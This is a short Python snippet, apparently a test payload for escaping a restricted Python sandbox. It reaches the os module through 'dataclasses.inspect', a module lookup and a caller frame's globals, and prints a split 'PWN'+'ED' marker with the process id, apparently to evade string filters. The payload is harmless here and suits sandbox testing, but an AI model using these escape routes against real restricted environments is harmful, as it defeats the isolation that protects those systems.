# attr: reach a module through dataclasses.inspect
import dataclasses
m = dataclasses.inspect
try:
    print("PWN" + "ED", m.getpid())
except Exception:
    pass
try:
    print("PWN" + "ED", m.modules['os'].getpid())
except Exception:
    pass
try:
    print("PWN" + "ED", m.currentframe().f_back.f_globals['os'].getpid())
except Exception:
    pass
